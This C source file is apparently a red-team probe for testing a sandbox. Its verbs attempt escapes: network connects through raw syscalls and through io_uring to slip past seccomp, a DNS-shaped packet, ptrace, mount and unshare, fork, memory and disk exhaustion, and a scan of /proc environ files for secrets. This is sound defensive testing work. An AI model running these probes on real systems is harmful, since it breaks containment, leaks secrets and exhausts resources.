/*
 * rt_probe.c — the attack tool the red-team cases run inside tt-sandbox. Each verb tries
 * one way out and reports by exit code: 0 the attempt WORKED (an escape), 1 it was
 * refused (errno printed), 2 usage or setup error. Raw syscalls go through syscall(2)
 * so no libc wrapper (or shim) is in the way.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <stddef.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <liburing.h>

static int refused(const char *what)
{
	printf("%s: refused: %s\n", what, strerror(errno));
	return 1;
}

static int worked(const char *what)
{
	printf("%s: WORKED\n", what);
	return 0;
}

/* connect(2) by raw syscall to ip:port (IPv4 or IPv6 literal). */
static int do_syscall_connect(const char *ip, int port)
{
	struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
	struct sockaddr_in a4 = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	int v6 = strchr(ip, ':') != NULL;
	long fd = syscall(SYS_socket, v6 ? AF_INET6 : AF_INET, SOCK_STREAM, 0);
	long rc;

	if (fd < 0)
		return refused("socket");
	if (v6 ? inet_pton(AF_INET6, ip, &a6.sin6_addr) != 1
	       : inet_pton(AF_INET, ip, &a4.sin_addr) != 1)
		return 2;
	rc = v6 ? syscall(SYS_connect, fd, &a6, sizeof(a6))
		: syscall(SYS_connect, fd, &a4, sizeof(a4));
	if (rc < 0)
		return refused("syscall(SYS_connect)");
	return worked("syscall(SYS_connect)");
}

/* connect through io_uring (IORING_OP_CONNECT): no connect(2) syscall for seccomp to see.
 * The socket itself comes from socket(2), which the filter allows for AF_INET. */
static int do_uring_connect(const char *ip, int port)
{
	struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
	struct sockaddr_in a4 = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	int v6 = strchr(ip, ':') != NULL;
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	struct io_uring_cqe *cqe;
	int fd = socket(v6 ? AF_INET6 : AF_INET, SOCK_STREAM, 0);
	int rc;

	if (fd < 0)
		return refused("socket");
	if (v6 ? inet_pton(AF_INET6, ip, &a6.sin6_addr) != 1
	       : inet_pton(AF_INET, ip, &a4.sin_addr) != 1)
		return 2;
	rc = io_uring_queue_init(4, &ring, 0);
	if (rc < 0) {
		errno = -rc;
		printf("io_uring_queue_init: %s\n", strerror(errno));
		return 2;
	}
	sqe = io_uring_get_sqe(&ring);
	if (v6)
		io_uring_prep_connect(sqe, fd, (struct sockaddr *)&a6, sizeof(a6));
	else
		io_uring_prep_connect(sqe, fd, (struct sockaddr *)&a4, sizeof(a4));
	io_uring_submit(&ring);
	rc = io_uring_wait_cqe(&ring, &cqe);
	if (rc < 0) {
		errno = -rc;
		return refused("io_uring_wait_cqe");
	}
	rc = cqe->res;
	io_uring_cqe_seen(&ring, cqe);
	io_uring_queue_exit(&ring);
	if (rc < 0) {
		errno = -rc;
		return refused("IORING_OP_CONNECT");
	}
	return worked("IORING_OP_CONNECT");
}

/* sendto(2) of a UDP datagram by raw syscall (DNS-shaped, to port 53 by default). */
static int do_syscall_sendto(const char *ip, int port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	static const char q[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03"
				"api\x07"
				"binance\x03"
				"com\x00\x00\x01\x00\x01";
	long fd = syscall(SYS_socket, AF_INET, SOCK_DGRAM, 0);

	if (fd < 0)
		return refused("socket");
	inet_pton(AF_INET, ip, &a.sin_addr);
	if (syscall(SYS_sendto, fd, q, sizeof(q) - 1, 0, &a, sizeof(a)) < 0)
		return refused("syscall(SYS_sendto)");
	return worked("syscall(SYS_sendto)");
}

static int do_abstract(const char *name, const char *tag)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	size_t n = strlen(name);
	char line[64];
	int l;

	if (fd < 0 || n + 1 > sizeof(a.sun_path))
		return 2;
	memcpy(a.sun_path + 1, name, n); /* sun_path[0] = 0: abstract namespace */
	if (connect(fd, (struct sockaddr *)&a,
		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)) < 0)
		return refused("connect(@abstract)");
	l = snprintf(line, sizeof(line), "%s\n", tag);
	if (write(fd, line, (size_t)l) != l)
		return refused("write");
	return worked("connect(@abstract)");
}

static int do_ptrace(void)
{
	pid_t c = fork();
	long rc;

	if (c == 0) {
		pause();
		_exit(0);
	}
	rc = syscall(SYS_ptrace, PTRACE_ATTACH, c, 0, 0);
	kill(c, SIGKILL);
	waitpid(c, NULL, 0);
	if (rc < 0)
		return refused("ptrace(PTRACE_ATTACH)");
	return worked("ptrace(PTRACE_ATTACH)");
}

static int do_mount(void)
{
	if (syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, "size=1m") < 0)
		return refused("mount(tmpfs)");
	return worked("mount(tmpfs)");
}

static int do_unshare(void)
{
	if (syscall(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNET) < 0)
		return refused("unshare(NEWUSER|NEWNET)");
	return worked("unshare(NEWUSER|NEWNET)");
}

/* Forks up to n children that stay alive; 0 when all n were created. */
static int do_forkbomb(int n)
{
	static pid_t kids[4096];
	int made = 0;

	if (n > 4096)
		n = 4096;
	for (int i = 0; i < n; i++) {
		pid_t p = fork();

		if (p == 0) {
			pause();
			_exit(0);
		}
		if (p < 0)
			break;
		kids[made++] = p;
	}
	printf("forked %d of %d\n", made, n);
	for (int i = 0; i < made; i++)
		kill(kids[i], SIGKILL);
	for (int i = 0; i < made; i++)
		waitpid(kids[i], NULL, 0);
	if (made < n) {
		errno = EAGAIN;
		return refused("fork");
	}
	return worked("fork bomb");
}

/* Listens on abstract @name; prints the tag of the first client (3 s at most). */
static int do_listen_abstract(const char *name)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	struct timeval tv = {3, 0};
	int l = socket(AF_UNIX, SOCK_STREAM, 0);
	size_t n = strlen(name);
	char buf[64];
	ssize_t r;
	int c;

	if (l < 0 || n + 1 > sizeof(a.sun_path))
		return 2;
	memcpy(a.sun_path + 1, name, n);
	if (bind(l, (struct sockaddr *)&a,
		 (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)) < 0 ||
	    listen(l, 4) < 0 || setsockopt(l, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)) < 0)
		return 2;
	printf("listening\n");
	c = accept(l, NULL, NULL);
	if (c < 0)
		return refused("accept");
	r = read(c, buf, sizeof(buf) - 1);
	buf[r > 0 ? r : 0] = '\0';
	printf("first client: %s", buf);
	return 0;
}

/* Allocates and touches mb MiB; 0 when it got all of it. */
static int do_membomb(int mb)
{
	for (int i = 0; i < mb; i++) {
		char *p = malloc(1 << 20);

		if (!p) {
			printf("allocated %d of %d MiB\n", i, mb);
			errno = ENOMEM;
			return refused("malloc");
		}
		memset(p, i, 1 << 20);
	}
	return worked("memory bomb");
}

/* Writes mb MiB to path; 0 when all was written. */
static int do_fill(const char *path, int mb)
{
	static char buf[1 << 16];
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);

	signal(SIGXFSZ, SIG_IGN);
	if (fd < 0)
		return refused("open");
	for (long i = 0; i < (long)mb * 16; i++)
		if (write(fd, buf, sizeof(buf)) != (ssize_t)sizeof(buf)) {
			printf("wrote %ld KiB of %d MiB\n", i * 64, mb);
			close(fd);
			return refused("write");
		}
	close(fd);
	return worked("disk fill");
}

/* Searches every /proc/<pid>/environ readable here for needle. */
static int do_environ(const char *needle)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int seen = 0;

	if (!d)
		return 2;
	while ((e = readdir(d))) {
		char p[300];
		char buf[65536];
		ssize_t n;
		int fd;

		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		snprintf(p, sizeof(p), "/proc/%s/environ", e->d_name);
		fd = open(p, O_RDONLY);
		if (fd < 0)
			continue;
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		seen++;
		if (n > 0 && memmem(buf, (size_t)n, needle, strlen(needle))) {
			printf("secret found in %s\n", p);
			closedir(d);
			return worked("read another process's environ");
		}
	}
	closedir(d);
	printf("read %d environ files, secret not found\n", seen);
	errno = ENOENT;
	return refused("/proc/*/environ");
}

static int do_write(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);

	if (fd < 0 || write(fd, "x\n", 2) != 2)
		return refused(path);
	close(fd);
	return worked(path);
}

static int do_read(const char *path)
{
	char buf[256];
	int fd = open(path, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return refused(path);
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n <= 0) {
		errno = n == 0 ? ENODATA : errno;
		return refused(path);
	}
	return worked(path);
}

int main(int argc, char **argv)
{
	const char *v = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IONBF, 0);
	if (!strcmp(v, "syscall-connect") && argc == 4)
		return do_syscall_connect(argv[2], atoi(argv[3]));
	if (!strcmp(v, "uring-connect") && argc == 4)
		return do_uring_connect(argv[2], atoi(argv[3]));
	if (!strcmp(v, "syscall-sendto") && argc == 4)
		return do_syscall_sendto(argv[2], atoi(argv[3]));
	if (!strcmp(v, "abstract") && argc == 4)
		return do_abstract(argv[2], argv[3]);
	if (!strcmp(v, "listen-abstract") && argc == 3)
		return do_listen_abstract(argv[2]);
	if (!strcmp(v, "ptrace"))
		return do_ptrace();
	if (!strcmp(v, "mount"))
		return do_mount();
	if (!strcmp(v, "unshare"))
		return do_unshare();
	if (!strcmp(v, "forkbomb") && argc == 3)
		return do_forkbomb(atoi(argv[2]));
	if (!strcmp(v, "membomb") && argc == 3)
		return do_membomb(atoi(argv[2]));
	if (!strcmp(v, "fill") && argc == 4)
		return do_fill(argv[2], atoi(argv[3]));
	if (!strcmp(v, "environ") && argc == 3)
		return do_environ(argv[2]);
	if (!strcmp(v, "write") && argc == 3)
		return do_write(argv[2]);
	if (!strcmp(v, "read") && argc == 3)
		return do_read(argv[2]);
	if (!strcmp(v, "sleep") && argc == 3)
		return usleep((useconds_t)atoi(argv[2]) * 1000), worked("sleep");
	fprintf(stderr, "usage: rt_probe VERB ARGS (see rt_probe.c)\n");
	return 2;
}
